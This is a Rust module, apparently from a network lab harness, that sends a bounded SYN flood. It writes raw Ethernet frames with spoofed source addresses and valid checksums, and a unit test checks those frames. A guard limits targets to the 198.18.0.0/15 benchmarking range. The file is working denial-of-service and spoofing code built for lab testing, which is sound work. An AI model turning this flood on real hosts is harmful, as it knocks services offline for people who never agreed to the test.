//! A SYN flood for the lab: raw Ethernet frames through an AF_PACKET
//! socket, each a SYN from a different spoofed source inside the
//! benchmarking range 198.19.0.0/16, with valid IP and TCP checksums.
//! Bounded in count and time; it stops by itself. Call it from a thread
//! inside the attacking namespace (`netns::spawn_thread`).

use std::{
    net::SocketAddrV4,
    time::{Duration, Instant},
};

use anyhow::{bail, ensure, Context, Result};

/// What a flood did.
#[derive(Clone, Copy, Debug)]
pub struct FloodReport {
    pub sent: u64,
    pub elapsed: Duration,
}

impl FloodReport {
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// Where and how much to flood.
#[derive(Clone, Debug)]
pub struct Flood {
    /// Interface of the calling thread's namespace to send from.
    pub ifname: String,
    pub src_mac: [u8; 6],
    /// The director's MAC (the VIP's ARP answer).
    pub dst_mac: [u8; 6],
    pub target: SocketAddrV4,
    /// SYNs to send at most.
    pub count: u64,
    /// Time to flood at most.
    pub max_time: Duration,
}

const SRC_NET: [u8; 2] = [198, 19];

fn fold(mut sum: u32) -> u16 {
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

fn sum16(data: &[u8]) -> u32 {
    data.chunks(2)
        .map(|c| u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]) as u32)
        .sum()
}

/// The frame for flood SYN number `i`: source 198.19.(i>>8).(i), port
/// 1024 + (i >> 16) % 60000.
fn frame(f: &Flood, i: u64, out: &mut [u8; 54]) {
    let src = [SRC_NET[0], SRC_NET[1], (i >> 8) as u8, i as u8];
    let sport = 1024 + ((i >> 16) % 60000) as u16;
    let dst = f.target.ip().octets();
    out[0..6].copy_from_slice(&f.dst_mac);
    out[6..12].copy_from_slice(&f.src_mac);
    out[12..14].copy_from_slice(&[0x08, 0x00]);
    // IPv4: 20 bytes, TTL 64, TCP.
    let ip = &mut out[14..34];
    ip.copy_from_slice(&[
        0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0, src[0], src[1], src[2], src[3], dst[0], dst[1],
        dst[2], dst[3],
    ]);
    let c = fold(sum16(ip));
    ip[10..12].copy_from_slice(&c.to_be_bytes());
    // TCP SYN, window 64240, no options.
    let seq = (i as u32).wrapping_mul(2_654_435_761);
    let tcp = &mut out[34..54];
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&f.target.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.to_be_bytes());
    tcp[8..12].copy_from_slice(&[0; 4]);
    tcp[12..16].copy_from_slice(&[0x50, 0x02, 0xfa, 0xf0]);
    tcp[16..20].copy_from_slice(&[0; 4]);
    let pseudo = sum16(&src) + sum16(&dst) + 6 + 20;
    let c = fold(pseudo + sum16(tcp));
    tcp[16..18].copy_from_slice(&c.to_be_bytes());
}

/// Sends the flood from the calling thread's namespace.
pub fn syn_flood(f: &Flood) -> Result<FloodReport> {
    ensure!(
        f.target.ip().octets()[0] == 198 && (f.target.ip().octets()[1] & 0xfe) == 18,
        "the lab floods only inside 198.18.0.0/15"
    );
    let name = std::ffi::CString::new(f.ifname.as_str())?;
    // SAFETY: a C string we own.
    let ifindex = unsafe { libc::if_nametoindex(name.as_ptr()) };
    if ifindex == 0 {
        bail!("interface {} not found", f.ifname);
    }
    // SAFETY: plain socket(2).
    let fd = unsafe {
        libc::socket(
            libc::AF_PACKET,
            libc::SOCK_RAW,
            (libc::ETH_P_IP as u16).to_be() as i32,
        )
    };
    if fd < 0 {
        return Err(std::io::Error::last_os_error()).context("AF_PACKET socket");
    }
    // The fd was just opened and is closed once, by this guard.
    let _close = Closer(fd);
    // SAFETY: an all-zero sockaddr_ll is valid; fields set below.
    let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    addr.sll_family = libc::AF_PACKET as u16;
    addr.sll_protocol = (libc::ETH_P_IP as u16).to_be();
    addr.sll_ifindex = ifindex as i32;
    addr.sll_halen = 6;
    addr.sll_addr[..6].copy_from_slice(&f.dst_mac);
    let start = Instant::now();
    let mut buf = [0u8; 54];
    let mut sent = 0u64;
    while sent < f.count {
        if sent.is_multiple_of(1024) && start.elapsed() >= f.max_time {
            break;
        }
        frame(f, sent, &mut buf);
        // SAFETY: the buffer and address are live and sized as passed.
        let n = unsafe {
            libc::sendto(
                fd,
                buf.as_ptr().cast(),
                buf.len(),
                0,
                (&addr as *const libc::sockaddr_ll).cast(),
                std::mem::size_of::<libc::sockaddr_ll>() as u32,
            )
        };
        if n < 0 {
            let e = std::io::Error::last_os_error();
            if e.raw_os_error() == Some(libc::ENOBUFS) {
                std::thread::yield_now();
                continue;
            }
            return Err(e).context("sendto");
        }
        sent += 1;
    }
    Ok(FloodReport {
        sent,
        elapsed: start.elapsed(),
    })
}

struct Closer(i32);

impl Drop for Closer {
    fn drop(&mut self) {
        // SAFETY: closes the fd this guard owns.
        unsafe { libc::close(self.0) };
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    #[test]
    fn frames_have_valid_checksums_and_stay_in_range() {
        let f = Flood {
            ifname: "eth0".into(),
            src_mac: [2, 0, 0, 0, 3, 2],
            dst_mac: [2, 0, 0, 0, 1, 1],
            target: SocketAddrV4::new(Ipv4Addr::new(198, 18, 0, 100), 80),
            count: 1,
            max_time: Duration::from_secs(1),
        };
        let mut buf = [0u8; 54];
        for i in [0u64, 1, 65535, 65536, 4_000_000] {
            frame(&f, i, &mut buf);
            let p = etherparse::SlicedPacket::from_ethernet(&buf).unwrap();
            let Some(etherparse::NetSlice::Ipv4(ip)) = p.net else {
                panic!("ipv4")
            };
            assert_eq!(ip.header().source()[..2], [198, 19]);
            assert_eq!(fold(sum16(&buf[14..34])), 0, "IP checksum");
            let Some(etherparse::TransportSlice::Tcp(tcp)) = p.transport else {
                panic!("tcp")
            };
            assert!(tcp.syn() && !tcp.ack());
            let h = ip.header();
            let sum = tcp.calc_checksum_ipv4(h.source(), h.destination()).unwrap();
            assert_eq!(sum, tcp.checksum(), "TCP checksum");
        }
    }
}
